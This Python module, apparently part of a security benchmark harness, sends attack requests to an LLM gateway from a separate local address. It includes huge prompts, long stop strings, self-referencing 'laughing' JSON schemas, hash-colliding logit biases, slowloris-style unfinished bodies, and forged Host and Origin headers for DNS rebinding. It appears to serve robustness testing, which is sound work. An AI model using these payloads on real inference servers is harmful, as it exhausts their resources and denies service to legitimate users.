"""Attacks on a gateway over HTTP."""

import asyncio
from functools import partial
from itertools import count
from typing import Any
from urllib.parse import urlsplit

import aiohttp

from bench.hostile.attacker import MODEL, Sent, Target
from bench.hostile.strangers import costly_grammar

ELSEWHERE = "127.0.0.2"
"""Where the attacker's connections come from: another address than that of honest callers."""
HUGE_PROMPT = "river " * 1_300_000
"""A little less than the 8 MiB that a gateway takes."""
STOPS = [f"{number:x}" + "a" * 8000 for number in range(16)]
"""Sixteen strings, each of which begins like much that a model may say."""
UNFINISHED = 256
PUSHES = 4
FOREIGN = "http://evil.example"


async def post(
    target: Target, session: aiohttp.ClientSession, body: dict[str, Any], **headers: str
) -> int:
    """One request to the end of its answer; returns the status."""
    payload = aiohttp.JsonPayload(body)
    target.sent.frames += 1
    target.sent.bytes += payload.size or 0
    url = f"{target.gateway}/completions"
    try:
        async with session.post(url, data=payload, headers=headers) as response:
            await response.read()
            if response.status >= 400:
                target.sent.refused[str(response.status)] += 1
            return response.status
    except aiohttp.ClientError as error:
        raise OSError(str(error)) from error


def browser() -> aiohttp.ClientSession:
    """Connections from the attacker's address."""
    return aiohttp.ClientSession(
        connector=aiohttp.TCPConnector(limit=0, local_addr=(ELSEWHERE, 0), force_close=True)
    )


async def push(target: Target, **asked: Any) -> Sent:
    """The same request from four callers, again and again."""
    target.sent.identities = 1
    async with browser() as session:

        async def ask() -> None:
            target.sent.streams += 1
            await post(target, session, {"model": MODEL.name, **asked})

        return await target.at_once([ask] * PUSHES)


async def huge_prompts(target: Target) -> Sent:
    """Prompts of 8 MB, which are far beyond the model's context once they are tokens."""
    return await push(target, prompt=HUGE_PROMPT, max_tokens=1)


async def long_stop_strings(target: Target) -> Sent:
    """Answers that are held against sixteen stop strings of 8,000 characters."""
    return await push(target, prompt="Once", max_tokens=256, stop=STOPS, ignore_eos=True)


def laughing_schema(levels: int, branches: int) -> dict[str, Any]:
    """A schema of some kilobytes with ``branches ** levels`` ways through it."""
    defs: dict[str, Any] = {
        f"a{at}": {"anyOf": [{"$ref": f"#/$defs/a{at + 1}"}] * branches} for at in range(levels)
    }
    defs[f"a{levels}"] = {"type": "integer"}
    top = {"$ref": "#/$defs/a0"}
    return {"type": "object", "properties": {"x": top}, "required": ["x"], "$defs": defs}


async def laughing_schemas(target: Target) -> Sent:
    """Schemas that refer to themselves in ever more ways, costly grammars, and biases whose tokens
    have the same hash."""
    target.sent.identities = 1
    numbers = count()
    same = {str(17 + at * ((1 << 61) - 1)): 1 for at in range(10_000)}

    def asked() -> list[dict[str, Any]]:
        number = next(numbers)
        return [
            {"guided_json": {**laughing_schema(40, 2), "title": f"{number}"}},
            {"guided_json": {**laughing_schema(8, 8), "title": f"{number}"}},
            {"guided_grammar": costly_grammar(number).decode()},
            {"logit_bias": same},
        ]

    async with browser() as session:

        async def ask(at: int) -> None:
            target.sent.streams += 1
            body = {"model": MODEL.name, "prompt": "Once", "max_tokens": 1, **asked()[at]}
            await post(target, session, body)

        return await target.at_once([partial(ask, at) for at in range(4)] * PUSHES)


async def unfinished_bodies(target: Target) -> Sent:
    """Requests whose body never ends, as many as the gateway answers at once."""
    target.sent.identities = 1
    at = urlsplit(target.gateway)
    head = (
        f"POST {at.path}/completions HTTP/1.1\r\nHost: {at.netloc}\r\n"
        "Content-Type: application/json\r\nContent-Length: 100000\r\n\r\n{"
    ).encode()

    async def begin() -> None:
        reader, writer = await asyncio.open_connection(
            at.hostname, at.port, local_addr=(ELSEWHERE, 0)
        )
        target.sent.streams += 1
        try:
            writer.write(head)
            target.sent.bytes += len(head)
            target.sent.frames += 1
            status = (await reader.readline()).split()[1:2]
            target.sent.refused[status[0].decode() if status else "closed"] += 1
        finally:
            writer.close()

    return await target.at_once([begin] * UNFINISHED, every_s=0.5)


async def foreign_pages(target: Target) -> Sent:
    """What a page of another site can make a browser send to a gateway without keys."""
    target.sent.identities = 1
    body = {"model": MODEL.name, "prompt": "Once", "max_tokens": 1}
    rebound = {"Host": "evil.example:8000", "Origin": "http://evil.example:8000"}
    kinds = [
        {"Origin": FOREIGN, "Content-Type": "text/plain"},
        {**rebound, "Content-Type": "application/json"},
        {**rebound, "Content-Type": "text/plain"},
        {"Host": "evil.example:8000", "Content-Type": "application/json"},
        {"Origin": "null", "Content-Type": "text/plain"},
    ]
    async with browser() as session:

        async def ask(headers: dict[str, str]) -> None:
            target.sent.streams += 1
            target.sent.gained += await post(target, session, body, **headers) == 200

        return await target.at_once([partial(ask, each) for each in kinds], every_s=0.5)
